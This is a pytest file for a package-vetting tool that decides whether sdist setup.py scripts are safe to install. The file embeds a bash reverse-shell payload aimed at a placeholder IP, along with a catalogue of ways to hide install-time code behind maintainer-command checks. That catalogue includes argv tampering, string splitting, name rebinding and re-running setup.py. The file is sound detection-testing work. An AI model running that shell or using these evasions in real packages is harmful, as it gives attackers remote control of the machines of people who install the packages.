"""A setup.py branch taken only for a maintainer's own command (issue 16, ADR 0140):
configargparse 1.9.0 runs ``twine upload`` under ``command == "publish"`` and serves a
coverage report under ``command == "coverage"``, words pip never passes; it was held as
processes and a server started at install time. Tests on the attacker's side keep every
branch an install can take read as install time."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist

# Denied at install time, allowed when called (a person's own shell): the tests below tell
# the two moments apart.
PAYLOAD = "os.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')"

SERVE = (
    "def serve(directory):\n"
    "    import socketserver\n"
    "    from http.server import SimpleHTTPRequestHandler\n"
    "    os.chdir(directory)\n"
    "    socketserver.TCPServer(('', 8000), SimpleHTTPRequestHandler).serve_forever()\n"
)

MAINTAINER = (
    "import os\n"
    "import sys\n"
    "from setuptools import setup\n"
    f"{SERVE}"
    "command = sys.argv[-1]\n"
    "if command == 'publish':\n"
    "    os.system('rm -rf dist')\n"
    "    os.system('python3 setup.py sdist bdist_wheel')\n"
    "    os.system('twine upload dist/*')\n"
    "    sys.exit()\n"
    "elif command == 'coverage':\n"
    "    import coverage\n"
    "    os.system('coverage run --source=fastcfg setup.py test')\n"
    "    os.system('coverage html')\n"
    "    serve(directory='htmlcov')\n"
    "    sys.exit()\n"
    "setup(name='fastcfg')\n"
)


def _vet(setup: str) -> Outcome:
    files = {"setup.py": setup, "fastcfg/__init__.py": ""}
    return vet("fastcfg-1.0.tar.gz", sdist("fastcfg", "1.0", files)).verdict


def test_commands_under_a_maintainers_own_command_are_allowed() -> None:
    assert _vet(MAINTAINER) is Outcome.ALLOW


@pytest.mark.parametrize(
    "gate",
    [
        "'upload' in sys.argv",
        "sys.argv[1] in ('release', 'publish')",
        "'docs' in sys.argv[1:] and os.path.isdir('docs')",
        "'publish' == sys.argv[-1]",
    ],
)
def test_other_spellings_of_a_maintainers_command_are_allowed(gate: str) -> None:
    setup = (
        f"import os\nimport sys\nfrom setuptools import setup\n{SERVE}"
        f"if {gate}:\n    os.system('coverage html')\n    serve('htmlcov')\n"
        "setup(name='fastcfg')\n"
    )
    assert _vet(setup) is Outcome.ALLOW


def _gated(gate: str, *, prelude: str = "", after: str = "") -> str:
    return (
        f"import os\nimport sys\nfrom setuptools import setup\n{prelude}"
        "command = sys.argv[-1]\n"
        f"if {gate}:\n    {PAYLOAD}\n{after}"
        "setup(name='fastcfg')\n"
    )


@pytest.mark.parametrize(
    "gate",
    [
        # Tests an install passes: its words are the commands pip and the backends run.
        "command != 'publish'",
        "command not in ('publish', 'coverage')",
        "'install' in sys.argv",
        "sys.argv[1] == 'install'",
        "command == 'bdist_wheel'",
        "command == 'egg_info'",
        "'develop' in sys.argv",
        "command in ('publish', 'dist_info')",
        "'--dist-dir' in sys.argv",
        "'publish' in sys.argv or 'install' in sys.argv",
        # Words that do not fold, or a substring rather than a word.
        "command == 'pub' + 'lish'",
        "command == ''.join(['pub', 'lish'])",
        "sys.argv[-1].startswith('p')",
        "'publish' in sys.argv[-1]",
        "command.lower() == 'publish'",
        "not command == 'publish'",
    ],
)
def test_a_payload_under_a_test_an_install_can_pass_stays_denied(gate: str) -> None:
    assert _vet(_gated(gate)) is Outcome.DENY


def test_the_else_branch_of_a_maintainers_command_runs_on_install() -> None:
    setup = _gated("command == 'publish'").replace(
        "setup(name", f"else:\n    {PAYLOAD.replace('4444', '4445')}\nsetup(name"
    )
    assert _vet(setup) is Outcome.DENY


def test_a_payload_after_the_maintainers_branch_runs_on_install() -> None:
    setup = _gated("command == 'publish'", after=f"{PAYLOAD.replace('4444', '4446')}\n")
    assert _vet(setup) is Outcome.DENY


@pytest.mark.parametrize(
    "prelude",
    [
        # sys.argv changed before the test: the word is there on install.
        "sys.argv.append('publish')\n",
        "sys.argv += ['publish']\n",
        "sys.argv[-1:] = ['publish']\n",
        "sys.argv = sys.argv + ['publish']\n",
        "list.append(sys.argv, 'publish')\n",
        "getattr(sys, 'argv').append('publish')\n",
        "sys.modules['sys'].argv.append('publish')\n",
        # A module of the archive, imported first, may have done it.
        "import fastcfg\n",
        "from fastcfg import helpers\n",
        # The name bound again, or by string.
        "globals()['com' + 'mand'] = 'publish'\n",
        # setup.py run again with the word: a child process or in-process.
        "import subprocess\nsubprocess.call([sys.executable, __file__, 'pub' + 'lish'])\n",
        "os.system(sys.executable + ' setup.py pub' + 'lish')\n",
        "os.execv(sys.executable, [sys.executable, __file__, 'pub' + 'lish'])\n",
        "from setuptools.sandbox import run_setup\nrun_setup(__file__, ['pub' + 'lish'])\n",
        "from distutils.core import run_setup\nrun_setup(__file__, ['publish'])\n",
        "from distutils.spawn import spawn\nspawn([sys.executable, __file__, 'pub' + 'lish'])\n",
        "WORDS = ['publish']\n",
    ],
)
def test_argv_or_the_name_changed_before_the_test_stays_denied(prelude: str) -> None:
    assert _vet(_gated("command == 'publish'", prelude=prelude)) is Outcome.DENY


@pytest.mark.parametrize(
    "after",
    [
        # After the test, the same: setup.py run again, by itself or by a module it imports.
        "import subprocess\nsubprocess.call([sys.executable, __file__, 'pub' + 'lish'])\n",
        "import fastcfg.release\n",
        (
            "class Build:\n    def run(self):\n"
            "        self.spawn([sys.executable, __file__, 'pub' + 'lish'])\n"
        ),
    ],
)
def test_setup_run_again_with_the_word_stays_denied(after: str) -> None:
    assert _vet(_gated("command == 'publish'", after=after)) is Outcome.DENY


@pytest.mark.parametrize(
    "rebind",
    [
        "command = 'publish'\n",
        "import builtins\nbuiltins.exec(\"command = 'publish'\")\n",
        "globals().update(command='publish')\n",
    ],
)
def test_the_name_bound_again_after_argv_stays_denied(rebind: str) -> None:
    setup = _gated("command == 'publish'").replace(
        "command = sys.argv[-1]\n", f"command = sys.argv[-1]\n{rebind}"
    )
    assert _vet(setup) is Outcome.DENY


def test_a_name_bound_twice_stays_denied() -> None:
    setup = _gated("command == 'publish'", after="").replace(
        "command = sys.argv[-1]\n", "command = sys.argv[-1]\ncommand = 'publish'\n"
    )
    assert _vet(setup) is Outcome.DENY


def test_a_sys_that_is_not_the_module_stays_denied() -> None:
    prelude = "class sys:\n    argv = ['setup.py', 'publish']\n"
    setup = _gated("command == 'publish'", prelude=prelude)
    assert _vet(setup) is Outcome.DENY


def test_a_function_also_called_outside_the_branch_runs_on_install() -> None:
    setup = MAINTAINER.replace("setup(name='fastcfg')", "serve('.')\nsetup(name='fastcfg')")
    assert _vet(setup) is not Outcome.ALLOW
